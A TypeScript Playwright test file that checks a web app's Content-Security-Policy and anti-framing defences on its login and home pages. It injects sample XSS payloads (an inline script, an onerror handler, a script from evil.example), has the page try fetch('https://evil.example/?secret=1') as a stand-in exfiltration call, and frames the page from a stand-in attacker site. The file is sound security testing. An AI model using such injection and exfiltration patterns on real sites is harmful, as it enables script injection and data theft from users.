import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openBrowser, person, signedIn } from '../stack/browser.ts';
import { stack } from '../stack/environment.ts';

let browser: Browser;
beforeAll(async () => void (browser = await openBrowser()));
afterAll(() => browser.close());

/** What someone could have slipped into a page: a script, a handler, a script of another site, a place of another site to post to. */
const slipped = `
  <script>globalThis.ran = (globalThis.ran ?? '') + 'script '</script>
  <img src="/none.png" alt="" onerror="globalThis.ran = (globalThis.ran ?? '') + 'handler '">
  <script src="https://evil.example/evil.js"></script>`;
const evil = `globalThis.ran = (globalThis.ran ?? '') + 'foreign '`;

/** Opens a page into whose HTML something was slipped on the way. */
async function openSlipped(context: BrowserContext, path: string, keepPolicy: boolean): Promise<Page> {
  const page = await context.newPage();
  await page.route('https://evil.example/evil.js', (route) => route.fulfill({ contentType: 'text/javascript', body: evil }));
  await page.route(stack.url + path, async (route) => {
    const answer = await route.fetch({ headers: { ...route.request().headers(), 'accept-encoding': 'identity' } });
    const headers = answer.headers();
    if (!keepPolicy) delete headers['content-security-policy'];
    await route.fulfill({ status: answer.status(), headers, body: (await answer.text()).replace('</body>', `${slipped}</body>`) });
  });
  await page.goto(stack.url + path, { waitUntil: 'load' });
  return page;
}

const ran = (page: Page): Promise<unknown> => page.evaluate('globalThis.ran');

describe.each([
  ['/login', () => person(browser)],
  ['/main/home', () => signedIn(browser)],
] as const)('the page %s', (path, visitor) => {
  test('runs nothing that was slipped into it', async () => {
    const page = await openSlipped(await visitor(), path, true);
    await page.locator('main, form').first().waitFor();
    expect(await ran(page)).toBeUndefined();
  });

  test('would run it without its policy', async () => {
    const page = await openSlipped(await visitor(), path, false);
    await expect.poll(() => ran(page)).toMatch(/script .*(handler|foreign)/);
  });

  test('asks no other site for anything', async () => {
    const context = await visitor();
    const page = await context.newPage();
    await page.route('https://evil.example/**', (route) => route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'taken' }));
    await page.goto(stack.url + path);
    const told = await page.evaluate(`fetch('https://evil.example/?secret=1').then(() => 'sent', (error) => String(error))`);
    expect(told).toMatch(/TypeError/);
  });

  test('is not shown in a frame of another site', async () => {
    const page = await (await visitor()).newPage();
    await page.route('https://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${stack.url}${path}"></iframe>` }));
    await page.goto('https://evil.example/');
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
  });
});
